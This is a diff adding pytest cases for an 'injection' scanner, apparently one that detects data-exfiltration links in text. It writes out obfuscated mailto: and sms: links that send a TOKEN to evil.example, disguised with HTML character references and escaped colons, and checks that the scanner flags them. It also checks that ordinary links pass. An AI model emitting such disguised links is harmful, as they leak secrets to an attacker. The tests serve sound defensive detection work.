@@ -271,6 +271,39 @@ def test_a_hostless_link_carries_its_address_parameters_linked_or_bare(url: str,
     ]
 
 
+@pytest.mark.parametrize(
+    "written",
+    [
+        f"mail&#116;o:a@evil.example?body={TOKEN}",
+        f"&#x6D;ailto:a@evil.example?body={TOKEN}",
+        f"mailto&#58;a@evil.example?body={TOKEN}",
+        f"mailto&colon;a@evil.example?body={TOKEN}",
+        f"mailto\\:a@evil.example?body={TOKEN}",
+        f"s&#109;s:+15551234567&body={TOKEN}",
+    ],
+)
+def test_a_bare_hostless_link_written_with_a_reference_is_a_link_where_written(written: str):
+    """adversary19 D10: the rendering shows ``mail&#116;o:`` as "mailto:", and a linkifier of
+    the shown text links it, as it links ``https&#58;//`` (found and placed where written)."""
+    text = f"Prose.\n\nWrite to {written} now.\n"
+    found = injection.scan(text)
+    assert [(m.rule, m.start, m.text) for m in found] == [
+        ("link-url-data", text.index(written), written)
+    ]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "R&amp;D: mail&#116;o:jane.doe@example.com or call &#116;el:+1-555-123-4567.",
+        "mail&#116;o:a@b.example?subject=Hello%20there &amp; tel&#58;+15551234567",
+        "Q&amp;A at 10:30 &mdash; mailto later; \\: is an escaped colon",
+    ],
+)
+def test_an_ordinary_hostless_link_written_with_references_carries_nothing(text: str) -> None:
+    assert injection.scan(f"Prose.\n\n{text}\n") == ()
+
+
 def test_a_bare_hostless_link_in_emphasis_is_a_link() -> None:
     """A linkifier reads the rendered text, where ``_…_`` is emphasis around the URL."""
     url = f"mailto:a@evil.example?body={TOKEN}"
